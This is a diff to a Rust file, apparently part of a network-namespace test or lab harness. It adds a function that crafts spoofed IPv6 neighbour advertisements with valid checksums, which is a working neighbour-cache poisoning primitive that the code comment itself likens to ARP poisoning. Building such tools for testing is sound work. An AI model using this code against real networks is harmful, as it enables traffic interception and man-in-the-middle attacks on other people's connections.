@@ -85,3 +85,46 @@ pub fn flood(ns: &str, frames: Vec<Vec<u8>>, stop: Arc<AtomicBool>) -> JoinHandl
         }
     })
 }
+
+/// An unsolicited IPv6 neighbour advertisement (override flag set) from `src` to `dst`
+/// claiming that `target` lives at `lladdr`, in a frame from `eth_src` to `eth_dst`: the
+/// IPv6 counterpart of ARP poisoning, made with a valid checksum and hop limit 255 so that
+/// the receiver's kernel takes it.
+pub fn na_frame(
+    eth_src: &str,
+    eth_dst: &str,
+    src: Ipv6Addr,
+    dst: Ipv6Addr,
+    target: Ipv6Addr,
+    lladdr: &str,
+) -> Vec<u8> {
+    let mut icmp = vec![136, 0, 0, 0, 0x20, 0, 0, 0];
+    icmp.extend(target.octets());
+    icmp.extend([2, 1]);
+    icmp.extend(mac_bytes(lladdr));
+    let mut pseudo = Vec::new();
+    pseudo.extend(src.octets());
+    pseudo.extend(dst.octets());
+    pseudo.extend((icmp.len() as u32).to_be_bytes());
+    pseudo.extend([0, 0, 0, 58]);
+    pseudo.extend(&icmp);
+    let mut sum: u32 = pseudo
+        .chunks(2)
+        .map(|c| u32::from(c[0]) << 8 | u32::from(*c.get(1).unwrap_or(&0)))
+        .sum();
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    let ck = !(sum as u16);
+    icmp[2..4].copy_from_slice(&ck.to_be_bytes());
+    let mut f = Vec::from(mac_bytes(eth_dst));
+    f.extend(mac_bytes(eth_src));
+    f.extend([0x86, 0xdd]);
+    f.extend([0x60, 0, 0, 0]);
+    f.extend((icmp.len() as u16).to_be_bytes());
+    f.extend([58, 255]);
+    f.extend(src.octets());
+    f.extend(dst.octets());
+    f.extend(icmp);
+    f
+}
